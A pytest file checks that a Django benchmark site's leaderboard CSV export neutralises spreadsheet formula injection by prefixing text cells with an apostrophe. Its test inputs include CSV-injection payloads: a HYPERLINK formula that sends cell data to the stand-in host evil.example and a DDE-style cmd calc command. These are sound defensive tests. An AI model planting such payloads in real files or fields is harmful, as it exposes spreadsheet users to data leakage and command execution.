"""The leaderboard CSV cannot run formulas in an organizer's spreadsheet: text cells that begin with
=, +, -, @, a tab or a carriage return are written as text (a leading apostrophe); numbers stay numbers."""

import csv
import io

import pytest
from rb_test_helpers import scored_submission
from rest_framework.test import APIClient
from restorebench.accounts.services import team_create, track_enter
from restorebench.csv_export import csv_text

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\tx",
    "\rx",
]


def test_every_formula_start_in_a_text_cell_is_neutralised():
    rows = list(csv.reader(io.StringIO(csv_text([HOSTILE, ["fine", "a=b", 3, -1.5, None]]))))
    assert rows[0] == ["'" + cell for cell in HOSTILE]
    assert rows[1] == ["fine", "a=b", "3", "-1.5", ""]


def test_a_team_and_method_named_as_formulas_export_as_text(make_arena, make_user):
    arena = make_arena(images=1)
    user = make_user()
    team = team_create(challenge=arena.challenge, name='=HYPERLINK("http://evil.example","win")', user=user)
    track_enter(team=team, track=arena.track)
    scored_submission(arena.phase, team, {"psnr": 25.0, "ssim": 0.5}, method_name="@SUM(1+1)")
    answer = APIClient().get(f"/api/phases/{arena.phase.pk}/leaderboard.csv")
    assert answer.status_code == 200
    header, row = list(csv.reader(io.StringIO(answer.content.decode())))[:2]
    assert row[header.index("team")] == "'" + team.name
    assert row[header.index("method")] == "'@SUM(1+1)"
    assert float(row[header.index("psnr")]) == 25.0
